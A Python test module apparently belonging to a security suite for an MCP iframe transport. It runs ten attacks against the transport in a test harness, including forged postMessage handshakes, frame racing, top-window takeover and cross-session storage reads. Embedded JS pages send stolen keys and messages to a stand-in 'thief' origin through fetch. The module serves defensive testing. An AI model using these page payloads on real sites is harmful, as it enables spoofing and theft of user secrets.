"""Servers by URL: who else may complete a handshake, take a page's place, or read what was stored for another."""

from __future__ import annotations

import json
import re
from typing import Any

from tests.attacks.app_site import AppSite
from tests.attacks.attack import Attack, Driver
from tests.attacks.catalogue.app_host import settled
from tests.attacks.scene import Attempt, Scene
from tests.support.controls import Control, Edit

KIND = "servers by URL"

WINDOWS, INNER, OUTER = (f"frames/{name}.js" for name in ("window-controls", "inner-control", "outer"))


# Controls

SOURCE = Edit(WINDOWS, "if (event.source && event.source === this.target) handler(event);", "handler(event);")
ANY_SIBLING = Control("url-any-sibling", "a look at the frame that completes a setup", (), (SOURCE,))
NO_PORT = Control(
    "url-no-port",
    "a look at the frame that speaks, and a port that nobody else has",
    (),
    (
        SOURCE,
        Edit(
            OUTER,
            "if (this.port && !isAnnouncement) return this.drop(",
            "if (self.none) return this.drop(",
        ),
    ),
)
ANY_ORIGIN = Control(
    "url-any-origin",
    "a look at the origin of the page that answers",
    (),
    (Edit(OUTER, "if (!this.#isExpected(origin)) return this.#strange(origin, isAnnouncement);", ""),),
)
ANY_PARENT = Control(
    "url-any-parent",
    "servers that hear only the page around them",
    (),
    (Edit(INNER, "if (event.source && event.source === target) handler(event);", "handler(event);"),),
)
ANY_CLIENT = Control(
    "url-any-client",
    "servers that name the pages which may use them",
    (),
    (Edit(INNER, "this.allowedOrigins.includes(origin)", "true"),),
)
ANY_SESSION = Control(
    "url-any-session",
    "storage that belongs to the page a server was set up for",
    (),
    (Edit("frames/storage.js", '["mcp", origin, sessionId, name, ""]', '["mcp", sessionId, name, ""]'),),
)
ANY_PATH = Control(
    "url-any-path",
    "secrets that belong to one of the servers that share a host",
    (),
    (Edit("published/kept.js", "name: `secrets ${place}`", 'name: "secrets"'),),
)
MAY_TAKE_THE_WINDOW = Control(
    "url-may-take-the-window",
    "a sandbox that keeps a server in its frame",
    (),
    (Edit(WINDOWS, '"allow-scripts allow-forms allow-modals"', '"allow-scripts allow-forms allow-top-navigation"'),),
)
ANY_SUCCESSOR = Control(
    "url-any-successor",
    "a second load of a frame without an origin, whose page may be another one",
    (),
    (Edit(OUTER, 'const isUnknown = this.state == "reloaded" && this.origin == "null";', "const isUnknown = false;"),),
)


# Pages

SERVER = """<!doctype html><script type="module">
import * as F from "/web/frames.js";
const tell = (what) => fetch("/won?" + encodeURIComponent(what), { mode: "no-cors" });
const options = { logger: new F.Logger("INNER", "page", () => {}) };
const transport = new F.InnerFrameTransport(new F.PostMessageInnerControl(ALLOWED), options);
const hidden = { requirement: "hidden" };
const ACTS = {
  completes: () => transport.completeSetup({ displayName: "honest", transportVisibility: hidden }),
  answers: (id, value = "honest") => transport.send({ jsonrpc: "2.0", id, result: { value } }),
  leaves: () => location.replace(THIEF),
  robs: () => tell("a message of the product"),
  keeps: (id) => (transport.storage("demo").set("key", "of the product"), ACTS.answers(id)),
  reads: (id) => ACTS.answers(id, transport.storage("demo").get("key") ?? null),
};
if (F.getServerPhase() === "setup") {
  await transport.prepareSetup();
  ACTS[SETUP]?.();
} else {
  if (MOVES) await new Promise(() => location.replace(THIEF));
  transport.onMessage(({ id }) => ACTS[DOES]?.(id));
  await transport.prepareToConnect();
}
</script>"""
"""A page that is a server: what it does in its setup (`SETUP`), and at each message (`DOES`)."""

SIBLING = """<!doctype html><script>
setInterval(() => { for (const message of MESSAGES) parent.postMessage(message, "*"); }, 50);
</script>"""

RACER = """<!doctype html><script>
const tell = (what) => fetch("/won?" + encodeURIComponent(what), { mode: "no-cors" });
function reply(frame) {
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = ({ data }) => {
    const payload = { jsonrpc: "2.0", id: 1, method: "ask" };
    if (data?.type === "MCP_TRANSPORT_ACCEPTED") port1.postMessage({ type: "MCP_MESSAGE", payload });
    if (data?.payload?.result) tell("the server answers a frame beside it");
  };
  frame.postMessage({ type: "MCP_TRANSPORT_HANDSHAKE_REPLY", sessionId: "x", protocolVersion: "1.0" }, "*", [port2]);
}
setInterval(() => { for (let at = 0; at < parent.length; at++) reply(parent[at]); }, 100);
</script>"""

CLIENT = """<!doctype html><body><script type="module">
import * as F from "/web/frames.js";
const tell = (what) => fetch("/won?" + encodeURIComponent(what), { mode: "no-cors" });
const iframe = document.body.appendChild(document.createElement("iframe"));
const outer = new F.OuterFrameTransport(new F.IframeWindowControl({ iframe }), {
  url: SERVER_URL, sessionId: "known", logger: new F.Logger("OUTER", "page", () => {}), timeouts: { handshake: 4000 },
});
outer.onMessage(({ result }) => result?.value && tell("the server answers a stranger: " + result.value));
await outer.prepareToConnect();
outer.send({ jsonrpc: "2.0", id: 1, method: "ask" });
</script>"""

SETTINGS = """<!doctype html><script type="module">
import { KeptSettings } from "/web/published/kept.js";
const kept = new KeptSettings({ sessionId: "known", origin: PRODUCT }, { secrets: ["key"], schema: {} });
if (location.pathname === "/one/server") kept.keep({ key: "of the first server" });
else setInterval(() => {
  if (kept.hidden.key) fetch("/won?" + encodeURIComponent("the key " + kept.hidden.key), { mode: "no-cors" });
}, 100);
</script>"""

IMITATION = """<!doctype html><title>product</title><script>fetch("/won?the+product%27s+window");</script>"""
TAKER = "<!doctype html><script>setInterval(() => { top.location = THIEF; }, 200);</script>"

USE = """async ([origin, url, options]) => {
  const { name, steps, siblings } = options;
  const F = await import(origin + "/web/frames.js");
  const place = document.body.appendChild(document.createElement("div"));
  const beside = (src) => {
    const frame = document.createElement("iframe");
    if (options.sandbox) frame.sandbox = options.sandbox;
    place.append(Object.assign(frame, { src }));
  };
  if (!url) return siblings.forEach(beside);
  const iframe = place.appendChild(document.createElement("iframe"));
  const control = new F.IframeWindowControl({ iframe, ...options.sandbox && { sandbox: options.sandbox } });
  const outer = new F.OuterFrameTransport(control, {
    url, sessionId: "known", timeouts: { handshake: 4000, setup: 4000 },
    logger: new F.Logger("OUTER", "page", () => {}),
  });
  const until = async (fits) => {
    for (let turn = 0; turn < 40 && !fits(); turn++) await new Promise((resolve) => setTimeout(resolve, 50));
  };
  const answered = new Promise((resolve) => outer.onMessage(({ result }) => {
    if (result?.forged) window.called(name);
    resolve();
  }));
  const ask = () => outer.send({ jsonrpc: "2.0", id: 1, method: "ask" });
  const STEPS = {
    async setup() {
      const { displayName } = await outer.setup();
      if (displayName === "forged") window.called(name);
    },
    connect: () => outer.prepareToConnect(),
    ask,
    answered: () => Promise.race([answered, until(() => false)]),
    // A product that connects again by itself, once another page has announced itself.
    async again() {
      await until(() => outer.state === "reloaded");
      await outer.prepareToConnect();
      ask();
    },
    async siblings() { siblings.forEach(beside); },
  };
  for (const step of steps) await STEPS[step]();
}"""


def use(
    path: str,
    *steps: str,
    pages: dict[str, str],
    siblings: tuple[str, ...] = (),
    allowed: str = "",
    **options: Any,
) -> Driver:
    """Use a server by URL on the product's page, with other frames beside it, and see whether somebody else wins."""

    async def drive(scene: Scene, attempt: Attempt) -> None:
        name = attempt.attack.name
        scene.on_told("called", lambda tool: attempt.win(f"called {tool}") if tool == name else None)
        filled: dict[str, str] = {}
        async with AppSite(scene.house, filled, attempt.win) as site:
            fill = {
                "ALLOWED": json.dumps([scene.house.url, *([allowed.replace("EVIL", site.strange)] if allowed else [])]),
                "PRODUCT": json.dumps(scene.house.url),
                "SERVER_URL": json.dumps(f"{site.honest}/server"),
                "THIEF": json.dumps(f"{site.strange}/thief"),
            }
            words = re.compile("|".join(rf"\b{word}\b" for word in fill))
            filled |= {page: words.sub(lambda found: fill[found[0]], text) for page, text in pages.items()}
            addresses = [one.replace("EVIL", site.strange).replace("APP", site.honest) for one in siblings]
            given = {"name": name, "steps": steps, "siblings": addresses, **options}
            await settled(attempt, scene.page.evaluate(USE, [site.honest, path and site.honest + path, given]))

    return drive


def server(*, setup: str = "completes", does: str = "answers", moves: bool = False, allowed: str = "ALLOWED") -> str:
    """The page of a server."""
    fill = {"SETUP": json.dumps(setup), "DOES": json.dumps(does), "MOVES": json.dumps(moves), "ALLOWED": allowed}
    return re.sub(r"\b(?:SETUP|DOES|MOVES|ALLOWED)\b", lambda found: fill[found[0]], SERVER)


def sibling(*messages: dict[str, Any]) -> str:
    """A frame that says the same again and again."""
    return SIBLING.replace("MESSAGES", json.dumps(messages))


def attack(name: str, case: str, control: Control, driver: Driver, **options: Any) -> Attack:
    given: dict[str, Any] = {"script": "declarations", "setup": {"how": "nothing"}, **options}
    return Attack(name=name, kind=KIND, case=case, control=control, driver=driver, **given)


FORGED_SETUP = {
    "type": "MCP_SETUP_COMPLETE",
    "status": "success",
    "displayName": "forged",
    "transportVisibility": {"requirement": "hidden"},
}
FORGED_ANSWER = {"type": "MCP_MESSAGE", "payload": {"jsonrpc": "2.0", "id": 1, "result": {"forged": True}}}
THIEF_PAGE = server(does="robs", allowed='["*"]')

ATTACKS = [
    attack(
        "url-sibling-completes",
        "W08",
        ANY_SIBLING,
        # Another page of the server's own host, which is why the origin says nothing.
        use(
            *("/server", "siblings", "setup"),
            pages={"/server": server(setup=""), "/sibling": sibling(FORGED_SETUP)},
            siblings=("APP/sibling",),
        ),
    ),
    attack(
        "url-sibling-answers",
        "W11",
        NO_PORT,
        use(
            *("/server", "connect", "siblings", "ask", "answered"),
            pages={"/server": server(does=""), "/sibling": sibling(FORGED_ANSWER)},
            siblings=("APP/sibling",),
        ),
    ),
    attack(
        "url-moves-between-phases",
        "W10",
        ANY_ORIGIN,
        use(
            *("/server", "setup", "connect", "ask"),
            pages={"/server": server(moves=True), "/thief": THIEF_PAGE},
        ),
    ),
    attack(
        "url-leaves-after-pinning",
        "W10",
        ANY_ORIGIN,
        use(
            *("/server", "connect", "ask", "again"),
            pages={"/server": server(does="leaves"), "/thief": THIEF_PAGE},
        ),
    ),
    attack(
        "url-pinning-race",
        "W09",
        ANY_PARENT,
        # The server lets every page use it, so that only the window says who is the one around it.
        use("", pages={"/server": server(allowed='["*"]'), "/racer": RACER}, siblings=("EVIL/racer", "APP/server")),
    ),
    attack(
        "url-client-not-allowed",
        "W20",
        ANY_CLIENT,
        use("", pages={"/server": server(), "/client": CLIENT}, siblings=("EVIL/client",)),
    ),
    attack(
        "url-session-of-another",
        "W15",
        ANY_SESSION,
        use(
            *("/keeper", "connect", "ask", "answered", "siblings"),
            pages={
                "/keeper": server(does="keeps"),
                "/server": server(does="reads"),
                "/client": CLIENT,
            },
            siblings=("EVIL/client",),
            allowed="EVIL",
        ),
        stores=True,
    ),
    attack(
        "url-secret-of-a-neighbour",
        "W22",
        ANY_PATH,
        use(
            "", pages={"/one/server": SETTINGS, "/two/server": SETTINGS}, siblings=("APP/one/server", "APP/two/server")
        ),
        stores=True,
    ),
    attack(
        "url-takes-the-window",
        "W21",
        MAY_TAKE_THE_WINDOW,
        use("/server", "connect", pages={"/server": TAKER, "/thief": IMITATION}),
        alone=True,
    ),
    attack(
        "url-opaque-successor",
        "W07",
        ANY_SUCCESSOR,
        use(
            *("/server", "connect", "ask", "again"),
            pages={"/server": server(does="leaves"), "/thief": THIEF_PAGE},
            sandbox="allow-scripts",
        ),
    ),
]
